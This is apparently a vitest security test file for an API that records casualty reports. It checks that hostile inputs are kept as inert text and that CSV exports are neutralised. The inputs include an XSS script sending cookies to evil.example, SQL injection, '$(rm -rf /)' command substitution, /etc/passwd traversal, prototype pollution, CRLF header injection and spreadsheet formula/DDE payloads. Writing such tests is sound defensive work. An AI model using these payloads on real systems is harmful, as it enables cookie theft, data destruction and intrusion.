import { beforeEach, describe, expect, it } from 'vitest';
import type { Ledger } from '../ledger/ledger.ts';
import { openMemoryLedger } from '../ledger/memory.ts';
import type { EventsView, EventView } from '../views/shapes.ts';
import { type Asker, askerOf } from './testing/asker.ts';

const TEXT = 'At least 14 soldiers were killed in an attack on a camp near Gao on Thursday, the army said.';

let ledger: Ledger;
let asker: Asker;

beforeEach(async () => {
  ledger = await openMemoryLedger();
  asker = await askerOf(ledger);
});

const get = (path: string): Promise<Response> => asker.get(path);
const post = (path: string, body: unknown): Promise<Response> => asker.post(path, body);
const add = (fields: object): Promise<Response> =>
  post('/api/reports', { text: TEXT, publishedAt: '2031-05-03', ...fields });

/** Looks at everything there is; nothing may fail, be served as a page, or be asker.logged. */
async function lookAround(): Promise<string> {
  const seen: string[] = [];
  const look = async (path: string): Promise<Response> => {
    const response = await get(path);
    expect(response.status, path).toBe(200);
    expect(response.headers.get('content-type'), path).toMatch(/^(application\/json|text\/csv)/);
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    return response;
  };
  const { events } = (await (await look('/api/events')).json()) as EventsView;
  for (const { id } of events) {
    const view = (await (await look(`/api/events/${id}`)).json()) as EventView;
    for (const { id: report } of view.reports)
      for (const part of ['', '/custody']) await look(`/api/reports/${encodeURIComponent(report)}${part}`);
    await look('/api/rules');
    await look('/api/history');
    for (const as of ['claims.csv', 'tolls.csv', 'event.json']) {
      const file = await look(`/api/events/${id}/export?as=${as}`);
      expect(file.headers.get('content-disposition')).toMatch(/^attachment; filename="[A-Za-z0-9._-]+"$/);
      seen.push(await file.text());
    }
  }
  expect(await (await post('/api/audit', {})).json()).toMatchObject({ ok: true });
  expect(asker.logged).toEqual([]);
  return seen.join('\n');
}

const SCRIPT = '<script>fetch("http://evil.example/"+document.cookie)</script>';
const FREE_TEXT: readonly string[] = [
  SCRIPT,
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  "'; DROP TABLE entries; --",
  "' OR 1=1 --",
  '$(rm -rf /)',
  '`id`',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%00',
  '%2e%2e%2f',
  '{{constructor.constructor("return process")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what somebody may type
  '${process.env.HOME}',
  '\u202Egnp.exe',
  '\uFEFFmark',
  'a\r\nSet-Cookie: x=1',
  '__proto__',
  'constructor',
  'toString',
  '=HYPERLINK("http://evil.example","x")',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '+1+1',
  '-2+3',
  '\t=1+1',
];

/** Puts the words wherever else a person may write some. */
async function editWith(words: string): Promise<void> {
  const { events } = (await (await get('/api/events')).json()) as EventsView;
  const [{ id, event }] = events as [EventsView['events'][number]];
  const place = { ...(event.place ?? {}), name: words, words };
  const rule = { id: 'ours', version: '1.0.0', title: words, says: words, best: 'lowest' };
  const victim = { id: 'v1', name: words, age: null, sex: null, status: 'combatant', fate: 'killed' };
  for (const [path, body] of [
    [`/api/events/${id}/titles`, { title: words }],
    [`/api/events/${id}/places`, { place }],
    [`/api/events/${id}/corrections`, { what: words, words }],
    [`/api/events/${id}/victims`, { victim }],
    ['/api/notes', { about: id, words }],
    ['/api/rules', { rule }],
  ] as const)
    expect((await post(path, { ...body, reason: words })).status, path).toBe(200);
}

describe('free text', () => {
  it.each(FREE_TEXT)('%j is kept as words in every field, and runs nowhere', async (words) => {
    const response = await add({ title: words, outlet: words, url: words });
    expect(response.status).toBe(200);
    const { report } = (await response.json()) as { report: string };
    const view = (await (await get(`/api/reports/${report}`)).json()) as {
      claims: { id: string }[];
      report: { outlet: string };
    };
    expect(view.report.outlet).toBe(words);
    const claim = view.claims[0]?.id as string;
    expect(
      (await post('/api/decisions', { claim, verdict: 'accepted', reason: words.trim() || 'x' })).status,
    ).toBe(200);
    await editWith(words.trim() || 'x');
    const files = await lookAround();
    for (const row of files.split('\r\n'))
      for (const cell of row.split(',')) expect(cell).not.toMatch(/^[=+@\t]|^-\D|^"[=+\-@\t]/);
    expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
  });
});

describe('ids and names', () => {
  it.each([...FREE_TEXT, '"', '*', '(((((', '\\', '%', '!', '&|!', ':*', '"unclosed'])(
    '%j may be searched for',
    async (words) => {
      await add({ title: words });
      const response = await get(`/api/search?q=${encodeURIComponent(words)}`);
      expect(response.status).toBe(200);
      expect(asker.logged).toEqual([]);
    },
  );

  it.each([
    '../../etc/passwd',
    "x'; drop table entries; --",
    '__proto__',
    'constructor',
    'a b/c?d#e',
    SCRIPT,
    'é🕊',
    'con.txt',
  ])('an id like %j is an id and nothing else', async (id) => {
    expect((await add({ id })).status).toBe(200);
    expect((await get(`/api/reports/${encodeURIComponent(id)}`)).status).toBe(200);
    expect((await get(`/api/ids?kind=report&prefix=${encodeURIComponent(id)}`)).status).toBe(200);
    await lookAround();
  });

  it.each(['a\0b', 'a\nb', '\u001b[2J', '\ud800'])('an id or a name like %j is refused', async (id) => {
    expect((await add({ id })).status).toBe(422);
    expect((await add({ by: `x${id}x` })).status).toBe(422);
    expect(await ledger.size()).toBe(0);
    expect(asker.logged).toEqual([]);
  });

  it.each([
    '/api/events/..%2f..%2fetc%2fpasswd',
    '/api/events/__proto__',
    '/api/reports/constructor',
    '/api/claims/toString',
    '/api/events/%00',
  ])('%s is not there', async (path) => {
    expect((await get(path)).status).toBe(404);
    expect(asker.logged).toEqual([]);
  });
});

describe('bodies', () => {
  const DEEP = `${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}`;
  it.each<[string, string, number]>([
    ['nests without end', DEEP, 400],
    ['is an array of arrays', '['.repeat(100_000), 400],
    ['is cut off', '{"text": "x', 400],
    ['is not UTF-8', '{"text":"\ud800"}', 200],
    ['is null', 'null', 422],
    ['is a number', '1e999', 422],
    ['has another prototype', `{"text":${JSON.stringify(TEXT)},"__proto__":{"polluted":true}}`, 422],
    [
      'has a constructor',
      `{"text":${JSON.stringify(TEXT)},"constructor":{"prototype":{"polluted":true}}}`,
      422,
    ],
    ['has a field too many', '{"text":"x","admin":true}', 422],
    ['has a text that is none', '{"text":{"$gt":""}}', 422],
    ['has a title of 100 kB', JSON.stringify({ text: 'x', title: 'x'.repeat(100_000) }), 422],
    ['has another kind', '{"text":"x","kind":"exe"}', 422],
  ])('one that %s is answered and harms nothing', async (_what, body, status) => {
    expect((await post('/api/reports', body)).status).toBe(status);
    expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
    expect(asker.logged).toEqual([]);
  });
});

describe('texts', () => {
  it.each<[string, string]>([
    ['a number beyond all', `${'9'.repeat(400)} soldiers were killed, the army said.`],
    ['a number beyond 2^53', 'At least 99999999999999999999 soldiers were killed, the army said.'],
    ['markup', `${SCRIPT} ${TEXT} <!-- --> <iframe src="http://evil.example">`],
    ['control characters', `\u0000\u0001\u001b[31m${TEXT}\u0007\u009b`],
    ['one word of a megabyte', 'a'.repeat(1_000_000)],
    ['brackets without end', '('.repeat(50_000)],
    ['quotes never closed', `"“«'${TEXT}`.repeat(200)],
    ['nothing', ''],
    ['white space', ' \n\t\u00a0\u2028 '],
    ['halves of pairs', `\ud83d${TEXT}\udd4a`],
  ])('%s is read, kept and shown', async (_what, text) => {
    expect((await add({ text })).status).toBe(200);
    await lookAround();
  });
});
